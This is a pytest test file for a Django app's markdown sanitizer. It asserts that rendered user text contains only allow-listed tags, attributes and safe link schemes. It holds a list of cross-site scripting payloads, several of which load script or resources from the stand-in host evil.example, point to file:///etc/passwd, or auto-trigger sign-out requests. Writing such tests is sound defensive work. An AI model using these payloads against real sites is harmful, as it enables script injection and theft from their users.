"""What strangers write is looked at, never executed, fetched or hidden."""

import html.parser
import time
from collections.abc import Callable

import pytest
from django.template import Context, Template
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

from accounts.models import User
from common.templatetags.markdown import ATTRIBUTES, TAGS, markdown, show_unseen
from projects.models import Project

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>-->",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/x)>x</p>",
    "<form action=//evil.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<div hx-get=/projects/ hx-trigger=load>x</div>",
    "<div data-hx-post=/sign-out/ data-hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "{{7*7}}{% load x %}${7*7}<%= 7*7 %>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/sign-out/)",
    "[x](\x01javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?u=1)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[x](https://ok.example \"onmouseover=alert(1)\")",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "# <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "\u202e<script>alert(1)</script>\u202c",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    r"$\text{</mtext><script>alert(1)</script>}$",
    r"$\text{<mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">}$",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"$$\style{background:url(//evil.example)}{x}$$",
    r"\[\class{button\" onclick=alert(1)}{x}\]",
]  # fmt: skip


class Nodes(html.parser.HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check_harmless(rendered: str) -> None:
    for tag, attributes in Nodes(rendered).found:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), attributes
        if "href" in attributes:
            assert str(attributes["href"]).lower().startswith(("http://", "https://", "mailto:")), attributes
            assert attributes["rel"] == "nofollow ugc noopener"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_is_harmless(payload: str) -> None:
    check_harmless(markdown(payload))
    check_harmless(markdown(f"text {payload}\n\n* {payload}\n\n{payload}"))


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from([*PAYLOADS, *"<>[](){}!`*_|~#&;:'\"/\\ \n\t", "javascript:", "on=", "é"]), max_size=12))
def test_no_mixture_of_them_is_harmful(parts: list[str]) -> None:
    check_harmless(markdown("".join(parts)))


def test_honest_markdown_still_works() -> None:
    made = markdown("# A\n\n**b** *c* ~~d~~ `e`\n\n3. f\n\n|g|\n|-|\n|h|\n\n[i](https://example.org)\n\n> j")
    for piece in ['<h3 dir="auto">A</h3>', "<strong>b</strong>", "<em>c</em>", "<s>d</s>", "<code>e</code>",
                  '<ol start="3" dir="auto">', '<td dir="auto">h</td>', 'href="https://example.org"',
                  '<blockquote dir="auto">']:  # fmt: skip
        assert piece in made, piece


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u00ad", "\U000e0041", "\x1b", "\x9b", "\u2028"]
)
def test_nothing_hides(hidden: str) -> None:
    for shown in (show_unseen(f"a{hidden}b"), markdown(f"a{hidden}b"), markdown(f"`a{hidden}b`")):
        assert hidden not in shown
        assert f"U+{ord(hidden):04X}" in shown or chr(0x2400 + ord(hidden)) in shown


def test_joiners_that_shape_letters_stay() -> None:
    for honest in ["👨‍👩‍👧‍👦 ❤️", "می‌خواهم", "क्‍ष", "plain\ttext\r\n", "שלום"]:
        assert show_unseen(honest) == honest
    assert "U+200D" in show_unseen("pass\u200dword") and "U+200C" in show_unseen("x\u200c")


def test_plain_text_is_escaped() -> None:
    template = Template("{% load markdown %}{{ text|visible }}")
    for payload in PAYLOADS:
        assert not Nodes(template.render(Context({"text": payload}))).found


@pytest.mark.parametrize(
    "piece", ["[", "*a ", "![", "[a](", "_a", "> ", "<", "`", "&", "- ", "|-", "~~a", "**x*", "\\[", "<a "]
)
def test_no_text_takes_long(piece: str) -> None:
    start = time.process_time()
    markdown(piece * (99_999 // len(piece)))
    markdown("x" + piece * (1_000_000 // len(piece)))
    assert time.process_time() - start < 10


@pytest.mark.parametrize("payload", PAYLOADS[::4])
def test_no_page_executes_a_name(project: Project, ada: User, browse: Callable[..., Client], payload: str) -> None:
    """As project's name, description, guideline, display name and note of an invitation: on every page, only text."""
    payload = payload.replace("\x01", "").replace("\n", " ")[:80]
    project.name = project.description = ada.display_name = payload
    project.save()
    ada.save()
    project.guidelines.create(number=9, text=payload, created_by=ada)
    client = browse(ada)
    for _ in range(2):
        client.post("/projects/bicycles/invitations/", {"role": "rater", "days": "7", "note": payload})
    for path in ["", "settings/", "guideline/", "guideline/new/", "members/", "events/"]:
        nodes = Nodes(client.get(f"/projects/bicycles/{path}").text).found
        for tag, attributes in nodes:
            assert not any(name.startswith(("on", "style", "xlink")) for name in attributes), (tag, attributes)
            assert str(attributes.get("src", "/static/")).startswith("/static/"), (tag, attributes)
            assert tag not in {"base", "object", "style", "foreignobject", "template", "mglyph", "maction"}
